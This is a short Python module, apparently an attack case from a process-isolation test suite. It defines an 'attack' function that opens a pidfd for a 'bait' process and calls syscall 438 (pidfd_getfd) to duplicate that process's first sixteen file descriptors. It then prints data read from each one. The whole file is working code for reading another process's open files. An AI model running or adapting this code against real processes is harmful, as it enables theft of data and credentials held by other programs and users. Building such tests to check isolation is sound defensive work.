"""Copies every file descriptor that another process holds open."""

import ctypes
import os


def attack(facts: dict[str, str]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    handle = os.pidfd_open(int(facts["bait"]))
    for number in range(16):
        mine = libc.syscall(438, handle, number, 0)
        if mine >= 0:
            try:
                print(os.pread(mine, 1000, 0))
            except OSError:
                continue
